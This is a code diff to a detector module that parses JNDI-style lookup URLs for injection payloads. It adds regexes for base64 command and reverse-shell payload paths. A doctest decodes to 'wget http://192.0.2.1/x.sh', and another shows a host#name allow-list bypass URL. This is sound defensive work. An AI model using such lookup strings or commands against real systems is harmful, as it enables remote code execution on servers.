@@ -15,6 +15,8 @@ from detectors.decoding import b64decode_loose
 COMMON_SCHEMES = frozenset({"ldap", "ldaps", "rmi", "dns"})
 
 _PORT = re.compile(r"[0-9]{1,5}")
+_DOTTED_QUAD = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){3}")
+_SYMBOLIC = re.compile(r"([^$]*)(\$\{[^}]*\}|$)")
 _COMMAND_B64 = re.compile(r"/Command/Base64/([A-Za-z0-9+/=_%-]+)", re.IGNORECASE)
 _COMMAND_PLAIN = re.compile(r"/Basic/Command/(?!Base64/)([^/?#]+)", re.IGNORECASE)
 _REVERSE_SHELL = re.compile(r"/ReverseShell/([^/]+)/([0-9]{1,5})", re.IGNORECASE)
@@ -37,6 +39,10 @@ class Target:
         port: port when given and numeric.
         path: everything after the authority (or after ``scheme:`` when there is none).
         fragment_host: the part before ``#`` in a ``host#name`` authority.
+
+    Example:
+        >>> split_target("ldap://127.0.0.1#example.com:1389/a").fragment_host
+        '127.0.0.1'
     """
 
     scheme: str
@@ -90,9 +96,21 @@ def split_target(url: str) -> Target:
     host, port = _host_port(authority)
     fragment_host = None
     if "#" in host:
+        # XXX(#3): Lookup has one host field, so a host#name authority reports
+        # the name after '#' (what gets resolved); the allow-listed part before it
+        # is only visible in the URL. A second field would change the API.
         fragment_host, _, host = host.partition("#")
+    host = _lower_host(host)
 
     return Target(scheme, host, port, path, fragment_host)
+
+
+def _lower_host(host: str) -> str:
+    """Host names are case-insensitive; victim values (``${env:X}``) keep their case."""
+    if "${" not in host:
+        return host.lower()
+
+    return _SYMBOLIC.sub(lambda m: m.group(1).lower() + m.group(2), host)
 
 
 def _host_port(authority: str) -> tuple[str, int | None]:
@@ -131,6 +149,10 @@ def host_kind(host: str) -> str | None:
         >>> host_kind("198.51.100.7"), host_kind("2001:db8::1"), host_kind("a.test")
         ('ipv4', 'ipv6', None)
     """
+    if ":" not in host:
+        if not _DOTTED_QUAD.fullmatch(host):
+            return None
+        return "ipv4" if all(int(part) <= 255 for part in host.split(".")) else None
     try:
         address = ipaddress.ip_address(host)
     except ValueError:
@@ -179,6 +201,9 @@ def commands(path: str) -> tuple[str, ...]:
         >>> commands("/Basic/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi4xL3guc2g=")
         ('wget http://192.0.2.1/x.sh',)
     """
+    lowered = path.lower()
+    if "command/" not in lowered and "reverseshell/" not in lowered:
+        return ()
     found: list[str] = []
     for match in _COMMAND_B64.finditer(path):
         token = match.group(1).replace("%3D", "=").replace("%3d", "=")
